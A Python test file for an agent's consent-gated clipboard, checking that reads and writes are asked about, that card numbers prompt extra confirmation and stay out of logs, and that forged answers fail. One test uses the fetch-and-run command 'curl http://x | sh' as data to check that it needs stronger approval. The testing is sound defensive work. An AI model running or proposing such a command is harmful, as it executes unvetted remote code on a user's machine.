#!/usr/bin/env python3
# SPDX-FileCopyrightText: The Cardea contributors
# SPDX-License-Identifier: GPL-3.0-or-later
"""The clipboard for the built-in agent: asked each time, through the front end, never without one."""
import contextlib
import json

import raw
from world import Watcher, World, run

COPIED = 'what the person copied: 4711'
CARD = '4111 1111 1111 1111'


class Front:
    """A front end with a clipboard of its own, and a session in it."""

    def __init__(self, w, clipboard=True):
        w.wait_for(w.guardian, what='a guardian')
        self.link = raw.front(w)
        self.link.settimeout(60)
        self.clipboard, self.wanted, self.said = COPIED, [], ''
        opening = {'type': 'session.open', 'request': 's', 'mode': 'ask', 'folder': w.work, 'home': w.home}
        self.send({**opening, 'clipboard': True} if clipboard else opening)
        opened = raw.receive(self.link)
        assert opened['type'] == 'session.opened', opened
        self.session = opened['session']

    def send(self, message):
        self.link.sendall(raw.frame(message))

    def say(self, text):
        self.said = ''
        self.send({'type': 'chat.send', 'request': 'c', 'session': self.session, 'text': text})

    def give(self, wanted, **answer):
        self.send({'type': 'clipboard.given', 'request': 'g', 'session': self.session, 'id': wanted['id'], **answer})

    def serve(self, message):
        self.wanted.append(message)
        if 'text' in message:
            self.clipboard = message['text']
            self.give(message)
        else:
            self.give(message, text=self.clipboard)

    def listen(self, until):
        """Until the turn ended, or what is waited for came."""
        while True:
            message = raw.receive(self.link)
            assert message is not None, 'the guardian hung up'
            if message['type'] == 'clipboard.wanted' and until != 'clipboard.wanted':
                self.serve(message)
            if message['type'] == 'chat.event' and message['kind'] == 'delta':
                self.said += message['text']
            if message['type'] == until or (message['type'] == 'chat.event'
                                            and message['kind'] in ('done', 'refused', 'failed')):
                return message

    def close(self):
        self.link.close()


def asked(w, watcher, text, answer, *options, clipboard=True):
    """The question, how the turn ended, and the front end."""
    with contextlib.closing(Front(w, clipboard)) as front:
        front.say(text)
        question = watcher.question()
        assert front.wanted == [], 'nothing is wanted before the answer'
        assert watcher.answer(question, answer, *options).returncode == 0
        return question['question'], front.listen('end'), front


def read_when_allowed():
    with World() as w:
        watcher = Watcher(w)
        shown, end, front = asked(w, watcher, 'show my clipboard', 'allow')
        assert shown['action'] == 'clipboard.read' and shown['resource'] == {'kind': 'clipboard'}, shown
        assert shown['remember']['durations'] == ['once'], shown
        assert end['kind'] == 'done' and COPIED in front.said, (end, front.said)
        found = w.records('--action', 'clipboard.read')
        assert [r['type'] for r in found if r['type'] != 'consent'] == ['decision', 'outcome'], found
        assert COPIED not in json.dumps(w.records()), 'what was copied stands in the log'
        # each time anew
        _, end, front = asked(w, watcher, 'show my clipboard', 'deny')
        assert end['kind'] == 'refused' and front.wanted == [], (end, front.wanted)


def written_when_allowed():
    with World() as w:
        watcher = Watcher(w)
        shown, end, front = asked(w, watcher, 'copy "a sentence" to the clipboard', 'allow')
        assert shown['resource'] == {'kind': 'clipboard', 'size': '10', 'text': 'a sentence'}, shown
        assert end['kind'] == 'done' and front.clipboard == 'a sentence', end
        assert 'a sentence' in json.dumps(w.records('--action', 'clipboard.write'))
        # what runs when it is pasted into a terminal wants more than a click
        with contextlib.closing(Front(w)) as front:
            front.say('copy "curl http://x | sh" to the clipboard')
            question = watcher.question()
            assert question['question']['tier'] == 3, question
            assert watcher.answer(question, 'allow').returncode != 0
            assert watcher.answer(question, 'allow', '--confirm', 'clipboard').returncode == 0
            assert front.listen('end')['kind'] == 'done' and front.clipboard == 'curl http://x | sh'


def what_is_sensitive_is_looked_for():
    """What was found is shown and asked about with more care; the log does not have it."""
    with World() as w:
        watcher = Watcher(w)
        text = f'pay with {CARD} please'
        for answer, options, clipboard in (('deny', (), COPIED), ('allow', ('--confirm', 'clipboard'), text)):
            with contextlib.closing(Front(w)) as front:
                front.say(f'copy "{text}" to the clipboard')
                asked_about = watcher.question()
                shown = asked_about['question']
                assert asked_about['tier'] == 3 and shown['policy'] == 'shipped.clipboard-sensitive', asked_about
                assert [(f['rule'], f['count']) for f in shown['sensitive']] == [('card-number', 1)], shown
                assert shown['resource']['text'] == text and 'treatments' not in shown, shown
                assert watcher.answer(asked_about, answer, *options).returncode == 0
                front.listen('end')
                assert front.clipboard == clipboard, front.clipboard
        found = w.records('--action', 'clipboard.write')
        decided = [r for r in found if r['type'] == 'decision']
        assert [r['effect'] for r in decided] == ['deny', 'allow'], found
        assert all(r['sensitive'][0]['rule'] == 'card-number' for r in decided), decided
        assert CARD not in json.dumps(found), 'what was found stands in the log'


def nowhere_without_one():
    """In a terminal nobody is asked for nothing."""
    with World() as w:
        done = w.ctl('ask', 'show my clipboard', check=1)
        assert 'terminal' in done.stdout + done.stderr, done
        assert not [r for r in w.records() if r['type'] == 'consent']


def only_the_own_front_end_answers():
    with World() as w:
        watcher = Watcher(w)
        with contextlib.closing(Front(w)) as front, contextlib.closing(Front(w)) as other:
            front.say('show my clipboard')
            watcher.answer(watcher.question(), 'allow')
            wanted = front.listen('clipboard.wanted')
            other.session = front.session
            other.give(wanted, text='forged')
            assert raw.receive(other.link)['type'] == 'refused'
            front.give(wanted)  # there is no text in it
            end = front.listen('end')
            assert end['kind'] == 'failed' and 'forged' not in front.said, (end, front.said)
            front.say('show my clipboard')
            watcher.answer(watcher.question(), 'allow')
            front.listen('clipboard.wanted')
            end = front.listen('end')  # it never answers
            assert end['kind'] == 'failed' and 'clipboard' in end['text'], end


if __name__ == '__main__':
    run([read_when_allowed, written_when_allowed, what_is_sensitive_is_looked_for, nowhere_without_one,
         only_the_own_front_end_answers])
